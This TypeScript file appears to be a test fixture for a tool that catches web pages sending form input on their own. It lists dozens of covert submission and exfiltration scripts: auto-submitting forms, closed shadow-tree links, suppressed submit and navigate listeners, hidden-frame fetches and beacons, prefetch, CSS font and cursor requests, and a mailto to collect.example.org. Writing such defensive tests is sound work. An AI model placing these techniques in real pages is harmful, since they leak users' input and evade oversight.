/**
 * More ways in which a page sends what is filled into it, found by somebody who did not build what stops them. `stopped`: nothing of
 * the report may leave. `told`: what leaves is told. `kept`: the page sends nothing, and what is said of it has to be true. A page may
 * be stopped as well where it need only be told of.
 */
export type OtherWay = {
  name: string
  promise: 'stopped' | 'told' | 'kept'
  script: string
  markup?: string
  only?: 'chromium' | 'firefox'
}

const on = (moment: string, what: string): string =>
  `for (const each of [a, s, u, n]) each.addEventListener('${moment}', function (event) { ${what} });`
const after = (wait: number, what: string): string =>
  `let timer; ${on('input', `clearTimeout(timer); timer = setTimeout(function () { ${what} }, ${wait})`)}`
const query = `'?' + new URLSearchParams(new FormData(f))`
const frame = '<iframe name="q" hidden></iframe>'
const moments: Record<string, string> = {
  'when a selection changes': `document.addEventListener('selectionchange', function () { if (a.value) f.submit() }); ${on('selectionchange', 'f.submit()')}`,
  'when a field has or loses the focus': ['focus', 'blur', 'focusin', 'focusout']
    .map((each) => on(each, 'f.submit()'))
    .join(''),
  'before it is written': on('beforeinput', 'f.submit()'),
  'at keys and at what is pasted': ['keydown', 'keyup', 'keypress', 'paste', 'compositionend', 'textInput']
    .map((each) => on(each, 'f.submit()'))
    .join(''),
  'when its form says that nothing is completed': `new MutationObserver(function () { f.submit() }).observe(f, { attributes: true, attributeFilter: ['autocomplete'] })`,
  'when a field grows': `n.style.fieldSizing = 'content'; let first = true; new ResizeObserver(function () { if (n.value) f.submit() }).observe(n)`,
  'when a field becomes valid, after a transition': `a.required = true; a.style.transition = 'outline-offset 50ms'; const sheet = new CSSStyleSheet(); sheet.replaceSync('input:valid { outline-offset: 9px }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; a.ontransitionend = function () { f.submit() }`,
  'when an attribute of a field of its own changes': `customElements.define('x-a', class extends HTMLInputElement { static observedAttributes = ['autocomplete', 'data-signpost-filled']; attributeChangedCallback() { if (this.value) f.submit() } }, { extends: 'input' }); const own = document.createElement('input', { is: 'x-a' }); own.id = 'a'; own.name = 'address'; own.type = 'url'; a.replaceWith(own)`,
  'at the first picture drawn after it': `(function draw() { if (a.value && n.value) f.submit(); else requestAnimationFrame(draw) })()`,
  'when a part of the page opens by itself': after(
    200,
    `const d = document.createElement('details'); d.ontoggle = function () { f.submit() }; document.body.append(d); d.open = true`,
  ),
  'when its own command writes into a field': after(
    200,
    `n.focus(); document.execCommand('insertText', false, 'x'); f.submit()`,
  ),
  'by a picture that is a button': after(
    200,
    `const i = document.createElement('input'); i.type = 'image'; f.append(i); i.click()`,
  ),
  'by the label of its button': after(
    200,
    `const l = document.createElement('label'); l.htmlFor = 'b'; document.body.append(l); l.click()`,
  ),
  'after the label of a box was pressed by script': after(
    200,
    `const l = document.createElement('label'); l.innerHTML = '<input type=checkbox>'; document.body.append(l); l.click(); setTimeout(function () { f.submit() }, 50)`,
  ),
  'after the label of a choice was pressed by script, through its text': after(
    200,
    `const l = document.createElement('label'); l.innerHTML = '<b>Yes</b><input type=radio>'; document.body.append(l); l.firstChild.click(); location = '/sent' + ${query}`,
  ),
  'after a summary was pressed by script': after(
    200,
    `const d = document.createElement('details'); d.innerHTML = '<summary>More</summary>'; document.body.append(d); d.firstChild.click(); f.submit()`,
  ),
  'after events like a person’s, by script': after(
    200,
    `for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) b.dispatchEvent(new PointerEvent(type, { bubbles: true, composed: true, pointerType: 'mouse', isPrimary: true })); for (const type of ['keydown', 'keyup']) b.dispatchEvent(new KeyboardEvent(type, { key: 'Enter', code: 'Enter', bubbles: true })); f.submit()`,
  ),
  'by a button of another part of the page': after(
    200,
    `const other = document.createElement('button'); other.setAttribute('form', 'f'); other.formAction = '/sent?other'; document.body.append(other); other.click()`,
  ),
  'four seconds later': after(
    2900,
    `setTimeout(function () { f.submit(); globalThis.hasTried = true }, 1500)`,
  ),
}

const goings: Record<string, string> = {
  'navigation.reload, with a cookie': after(
    300,
    `document.cookie = 'a=' + encodeURIComponent(a.value) + ';max-age=2;path=/report'; navigation.reload()`,
  ),
  'with a handler of its own in between': `globalThis.navigation?.addEventListener('navigate', function (event) { if (event.canIntercept && !event.formData) event.intercept({ handler: function () { return fetch('/sent' + ${query}) } }) }); ${after(300, `location = '/report/next' + ${query}`)}`,
  'back, to a state of before': `history.pushState(1, ''); ${after(300, `history.replaceState(2, '', ${query}); history.back()`)}`,
  'a mail to somebody': after(
    300,
    `location = 'mailto:x@collect.example.org?body=' + encodeURIComponent(a.value)`,
  ),
  'the frame that it is in by name': `name = 'own'; ${after(300, `window.open('/sent' + ${query}, 'own')`)}`,
  'a form aimed at itself by name': `name = 'own'; ${after(300, `f.target = 'own'; f.submit()`)}`,
  'a refresh that was begun before': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; ${after(100, `m.content = '1;url=/sent' + ${query}; document.head.append(m)`)}`,
  'to the same address with another query, by a link in place': after(
    300,
    `const l = document.createElement('a'); l.href = ${query}; document.body.append(l); l.click()`,
  ),
}

const closed = (inner: string, then: string): string =>
  after(
    300,
    `const host = document.createElement('div'); document.body.append(host); const tree = host.attachShadow({ mode: 'closed' }); ${inner}; ${then}`,
  )
const aLink = (attributes: string): string =>
  `const l = document.createElement('a'); l.href = '/sent' + ${query}; ${attributes}; tree.append(l)`

const unheard: Record<string, string> = {
  'a link in a closed tree, into a frame': closed(aLink(`l.target = 'q'`), 'l.click()'),
  'a link in a closed tree that downloads': closed(aLink(`l.download = 'x'`), 'l.click()'),
  'a link in a closed tree that pings': closed(aLink(`l.ping = l.href; l.href = '#more'`), 'l.click()'),
  'a press that leaves no tree, on a link in it': closed(
    aLink(`l.target = 'q'`),
    `l.dispatchEvent(new MouseEvent('click'))`,
  ),
  'a link of a drawing, into a frame': after(
    300,
    `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const l = document.createElementNS('http://www.w3.org/2000/svg', 'a'); l.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', '/sent' + ${query}); l.setAttribute('target', 'q'); svg.append(l); document.body.append(svg); l.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }))`,
  ),
  'a part of a map, into a frame': after(
    300,
    `const map = document.createElement('map'); map.innerHTML = '<area shape=default target=q>'; map.firstChild.href = '/sent' + ${query}; document.body.append(map); map.firstChild.click()`,
  ),
  'a form in a closed tree, into a frame': closed(
    `const o = document.createElement('form'); o.action = '/sent'; o.target = 'q'; o.innerHTML = '<input name=x>'; o.x.value = a.value; tree.append(o)`,
    'o.submit()',
  ),
  'a form in a closed tree, in place': closed(
    `const o = document.createElement('form'); o.action = '/sent'; o.innerHTML = '<input name=x>'; o.x.value = a.value; tree.append(o)`,
    'o.submit()',
  ),
  'its own form, moved into a frame': after(
    300,
    `const i = document.querySelector('iframe'); i.contentDocument.body.append(f); f.submit()`,
  ),
  'its own form, moved into a closed tree and aimed at a frame': closed(
    `f.target = 'q'; tree.append(f)`,
    'f.submit()',
  ),
}

const silence = `for (const type of ['submit', 'formdata', 'click', 'beforeunload', 'pagehide', 'load']) addEventListener(type, function (event) { event.stopImmediatePropagation() }, true); globalThis.navigation?.addEventListener('navigate', function (event) { event.stopImmediatePropagation() }, true);`
const deaf: Record<string, string> = {
  'submits itself': `${silence} ${after(300, 'f.submit()')}`,
  'asks itself to submit': `${silence} ${after(300, 'f.requestSubmit()')}`,
  'goes elsewhere': `${silence} ${after(300, `location = '/sent' + ${query}`)}`,
  'submits itself into a frame': `${silence} ${after(300, `f.target = 'q'; f.submit()`)}`,
  'presses a link of its own into a frame': `${silence} ${after(300, `const l = document.createElement('a'); l.href = '/sent' + ${query}; l.target = 'q'; document.body.append(l); l.click()`)}`,
}

const inFrame = (what: string): string =>
  after(400, `const w = document.querySelector('iframe').contentWindow; ${what}`)
const element = (tag: string, rest: string): string =>
  after(400, `const e = document.createElement('${tag}'); const to = '/sent' + ${query}; ${rest}`)

const background: Record<string, string> = {
  'fetch of a hidden frame': inFrame(`w.fetch('/sent' + ${query})`),
  'XMLHttpRequest of a hidden frame': inFrame(
    `const x = new w.XMLHttpRequest(); x.open('post', '/sent'); x.send(a.value)`,
  ),
  'sendBeacon of a hidden frame': inFrame(`w.navigator.sendBeacon('/sent', a.value)`),
  'a picture of a hidden frame': inFrame(`new w.Image().src = '/sent' + ${query}`),
  'fetch of a frame that is made for it and thrown away': after(
    400,
    `const i = document.createElement('iframe'); document.body.append(i); i.contentWindow.fetch('/sent' + ${query}, { keepalive: true }); setTimeout(function () { i.remove() }, 500)`,
  ),
  'a frame that is sent away, with an answer without content': inFrame(`w.location = '/nothing' + ${query}`),
  'a frame that is sent away': inFrame(`w.location.replace('/sent' + ${query})`),
  'a window by the name of a frame': after(400, `window.open('/sent' + ${query}, 'q')`),
  'a frame whose answer is a file': after(
    400,
    `const i = document.createElement('iframe'); i.src = '/file' + ${query}; document.body.append(i)`,
  ),
  'a message to a frame of its own, which asks': after(
    400,
    `document.querySelector('iframe.asks').contentWindow.postMessage(a.value, '*')`,
  ),
  prefetch: element('link', `e.rel = 'prefetch'; e.href = to; document.head.append(e)`),
  preload: element('link', `e.rel = 'preload'; e.as = 'fetch'; e.href = to; document.head.append(e)`),
  modulepreload: element('link', `e.rel = 'modulepreload'; e.href = to; document.head.append(e)`),
  'an icon': element(
    'link',
    `document.querySelectorAll('link[rel=icon]').forEach(function (l) { l.remove() }); e.rel = 'icon'; e.href = to; document.head.append(e)`,
  ),
  'a manifest': element('link', `e.rel = 'manifest'; e.href = to; document.head.append(e)`),
  'a rule for what to fetch ahead': element(
    'script',
    `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to], eagerness: 'immediate' }] }); document.head.append(e)`,
  ),
  'a rule for what to draw ahead': element(
    'script',
    `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [to], eagerness: 'immediate' }] }); document.head.append(e)`,
  ),
  'an import': element(
    'script',
    `e.type = 'module'; e.textContent = 'import(' + JSON.stringify(to) + ')'; document.head.append(e)`,
  ),
  'a font': element(
    'style',
    `e.textContent = '@font-face { font-family: x; src: url("' + to + '") } h1 { font-family: x }'; document.head.append(e)`,
  ),
  'a style that imports': element('style', `e.textContent = '@import "' + to + '"'; document.head.append(e)`),
  'a mouse pointer': element(
    'style',
    `e.textContent = '* { cursor: url("' + to + '"), auto }'; document.head.append(e)`,
  ),
  'a film': element('video', `e.preload = 'auto'; e.src = to; document.body.append(e); e.load()`),
  'the picture of a film': element('video', `e.poster = to; document.body.append(e)`),
  'a picture in a drawing': element(
    'div',
    `e.innerHTML = '<svg width="9" height="9"><image width="9" height="9"/></svg>'; e.firstChild.firstChild.setAttribute('href', to); document.body.append(e)`,
  ),
  'a part of another drawing': element(
    'div',
    `e.innerHTML = '<svg width="9" height="9"><use/></svg>'; e.firstChild.firstChild.setAttribute('href', to + '#x'); document.body.append(e)`,
  ),
  'a picture as a button': element('input', `e.type = 'image'; e.src = to; document.body.append(e)`),
  'fetch, with its records cleared': `performance.setResourceTimingBufferSize(0); ${after(400, `fetch('/sent' + ${query}).then(function () { performance.clearResourceTimings() })`)}`,
  'fetch later': after(
    400,
    `if (globalThis.fetchLater) fetchLater('/sent' + ${query}, { activateAfter: 200 }); else fetch('/sent' + ${query})`,
  ),
  'fetch that is broken off': after(
    400,
    `const c = new AbortController(); fetch('/slow' + ${query}, { signal: c.signal }).catch(function () {}); setTimeout(function () { c.abort() }, 600)`,
  ),
  'fetch that is sent on to another site': after(400, `fetch('/on' + ${query}, { mode: 'no-cors' })`),
}

const changes: Record<string, string> = {
  'thanks in the place of the form': after(500, `document.body.innerHTML = '<h1>Thank you</h1>'`),
  'copies in the place of its fields': after(
    500,
    `for (const each of [a, u, n]) { const copy = each.cloneNode(); each.replaceWith(copy); copy.value = '' }`,
  ),
  'another account in the place of the reported one': after(500, `u.value = 'somebody else'`),
  'an empty account': after(1500, `u.value = ''`),
  'another address, again and again': `setInterval(function () { if (a.value) a.value = 'https://elsewhere.example.org/' }, 100)`,
  'its form in a frame that nobody sees': after(
    500,
    `const i = document.createElement('iframe'); i.hidden = true; document.body.append(i); i.contentDocument.body.append(f)`,
  ),
  'its form hidden, and thanks': after(500, `f.hidden = true; document.body.append('Thank you')`),
  'its form under a sheet of its own': after(
    500,
    `document.body.insertAdjacentHTML('beforeend', '<dialog>Thank you</dialog>'); document.querySelector('dialog').showModal()`,
  ),
  'fields that hide what they hold': after(500, `for (const each of [a, u]) each.type = 'hidden'`),
}

const each = (
  promise: OtherWay['promise'],
  kind: string,
  scripts: Record<string, string>,
  markup = '',
): OtherWay[] =>
  Object.entries(scripts).map(([name, script]) => ({ name: `${kind}: ${name}`, promise, script, markup }))

export const otherWays: readonly OtherWay[] = [
  ...each('stopped', 'a form that submits itself', moments),
  ...each('stopped', 'a page that goes elsewhere', goings),
  ...each('stopped', 'what no window hears', unheard, frame),
  ...each('stopped', 'a page that lets nobody hear', deaf, frame),
  ...each(
    'told',
    'a request in the background',
    background,
    `${frame}<iframe class="asks" hidden src="/report/asks"></iframe>`,
  ),
  ...each('kept', 'a page that changes to', changes),
]
